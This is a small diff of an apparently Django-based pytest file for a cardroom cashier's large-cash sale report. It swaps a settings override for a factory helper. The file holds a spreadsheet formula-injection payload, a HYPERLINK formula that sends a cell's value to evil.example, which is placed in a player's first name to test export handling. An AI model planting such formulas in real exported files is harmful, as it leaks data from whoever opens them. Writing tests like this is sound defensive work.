@@ -11,6 +11,7 @@ from openpyxl import load_workbook
 
 from cashier.services.sales import chip_sale_create
 from tests.cashier.conftest import by_value
+from tests.factories import home_room_set
 
 pytestmark = pytest.mark.django_db
 
@@ -18,8 +19,8 @@ LINK = '=HYPERLINK("http://evil.example/?d="&D2,"Details")'
 
 
 @pytest.fixture
-def large_cash(shift, cashier, player, settings):
-    settings.CARDROOM_LARGE_CASH_THRESHOLD = 20_000
+def large_cash(shift, cashier, player):
+    home_room_set(large_cash_threshold=20_000)
     player.first_name = LINK
     player.save(update_fields=["first_name"])
     chip_sale_create(actor=cashier, amount=25_000, method="cash", chips=by_value({5_000: 5}), player_id=player.pk)
